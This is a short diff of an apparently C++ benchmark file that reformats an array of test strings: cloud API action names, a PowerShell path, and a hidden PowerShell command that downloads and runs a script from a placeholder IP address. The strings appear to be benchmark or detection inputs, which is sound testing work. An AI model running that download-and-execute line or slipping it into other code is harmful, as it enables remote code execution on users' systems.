@@ -12,7 +12,11 @@ namespace {
 using namespace karst;
 
 constexpr const char* kValues[] = {
-    "CopyObject", "DescribeInstances", "GetObject", "AssumeRole", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+    "CopyObject",
+    "DescribeInstances",
+    "GetObject",
+    "AssumeRole",
+    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\""};
 
 void predicate(benchmark::State& state, const char* text) {
